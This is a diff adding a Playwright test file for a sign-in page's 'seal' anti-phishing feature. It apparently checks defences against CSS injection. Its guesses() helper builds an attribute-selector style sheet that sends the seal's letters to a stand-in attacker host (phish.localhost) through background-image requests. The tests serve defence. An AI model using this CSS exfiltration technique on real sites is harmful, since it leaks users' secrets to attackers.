@@ -1,0 +1,76 @@
+import type { Page } from '@playwright/test';
+import { pageHeaders } from '../../../demo/headers.mjs';
+import { makeTextSeal, openChange, seal } from '../support/sign-in-page.js';
+import { expect, test } from './support/attack.js';
+import type { Lab } from './support/lab.js';
+
+// The attacker gets a style sheet of his into the genuine page. He hopes to read the seal letter by
+// letter: each rule that matches an attribute's beginning asks his server for a picture.
+
+const LETTERS = 'abcdefghijklmnopqrstuvwxyz'.split('');
+const ATTRIBUTES = ['title', 'value', 'seal', 'aria-label', 'alt', 'lines', 'caption'];
+
+function guesses(lab: Lab): string {
+  const ask = (answer: string) => `{background:url(${lab.at('phish.localhost', answer)})}`;
+  const rules = LETTERS.map((letter) => {
+    const begins = ATTRIBUTES.map((name) => `[${name}^="${letter}"]`).join(',');
+    return `:is(${begins})${ask(`/first-is-${letter}`)}`;
+  });
+  return `<style>${rules.join('')} signin-seal:state(shown)::before{content:""} form:has(:state(shown))${ask('/a-seal-shows')}</style>`;
+}
+
+async function openStyled(page: Page, lab: Lab, headers = {}): Promise<void> {
+  await makeTextSeal(page, ['odd', 'whale']);
+  const body = `<script type="module" src="/demo/sign-in.js"></script><form><signin-seal></signin-seal></form>`;
+  const html = guesses(lab) + body;
+  await page.goto(lab.page('login.genuine.localhost', '/styled.html', html, headers));
+  await seal(page).waitFor();
+}
+
+// What it would take: the seal on an attribute.
+const reflect = (lab: Lab): Promise<void> =>
+  lab.withoutDefence(
+    'elements/seal-controller.js',
+    'this.#host.requestUpdate();',
+    'this.#host.requestUpdate(); this.#host.title = reading.seal?.lines.join(" ") ?? "";',
+  );
+
+const leaked = (lab: Lab): string[] => lab.heardBy('phish.localhost').map(({ path }) => path);
+
+function attributesIn(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const all = (root: Document | ShadowRoot): string[] =>
+      [...root.querySelectorAll('*')].flatMap((element) => [
+        ...[...element.attributes].map(({ value }) => value),
+        ...(element.shadowRoot ? all(element.shadowRoot) : []),
+      ]);
+    return all(document);
+  });
+}
+
+test('he learns that a seal shows, and nothing of what is on it', async ({ page, lab }) => {
+  await openStyled(page, lab);
+  await expect.poll(() => leaked(lab)).toEqual(['/a-seal-shows']);
+});
+
+test('without the defence, the seal’s first letter leaks', async ({ page, lab }) => {
+  await reflect(lab);
+  await openStyled(page, lab);
+  await expect.poll(() => leaked(lab).sort()).toEqual(['/a-seal-shows', '/first-is-o']);
+});
+
+test('without the defence, the page’s policy stops the leak', async ({ page, lab }) => {
+  await reflect(lab);
+  await openStyled(page, lab, pageHeaders);
+  await expect(page.locator('signin-seal')).toHaveAttribute('title', 'odd whale');
+  expect(leaked(lab)).toEqual([]);
+});
+
+test('no attribute holds the seal, shown or edited', async ({ page }) => {
+  await makeTextSeal(page, ['odd', 'whale']);
+  const shown = await attributesIn(page);
+  await openChange(page);
+  const edited = await attributesIn(page);
+  expect(edited).toContain('line-0');
+  expect([...shown, ...edited].filter((value) => /odd|whale/.test(value))).toEqual([]);
+});
